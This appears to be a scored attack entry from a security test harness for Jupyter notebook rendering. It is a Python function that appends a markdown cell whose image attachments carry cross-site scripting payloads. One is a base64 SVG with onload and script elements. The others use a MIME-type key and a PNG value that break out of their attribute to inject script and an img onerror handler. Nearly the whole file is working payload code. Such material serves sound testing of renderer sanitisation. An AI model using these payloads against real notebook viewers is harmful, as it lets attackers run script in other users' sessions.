# /// attack
# tries = "Attaches a drawing with a script in it, and a picture whose type closes the element that it stands in."
# points = 10
# honest = true
# ///

import base64

from nbformat.v4 import new_markdown_cell


def submit(place):
    run = place.bait["script"]
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    close = f'"><script>{run}</script><img src="nowhere:" onerror="{run}" x="'
    attached = {"a.svg": {"image/svg+xml": base64.b64encode(drawing.encode()).decode()}, "b.png": {close: "AAAA"}}
    attached["c.png"] = {"image/png": f"AAAA{close}"}
    text = "![a](attachment:a.svg)\n\n![b](attachment:b.png)\n\n![c](attachment:c.png)"
    place.notebook.cells.append(new_markdown_cell(text, attachments=attached))
    place.save()
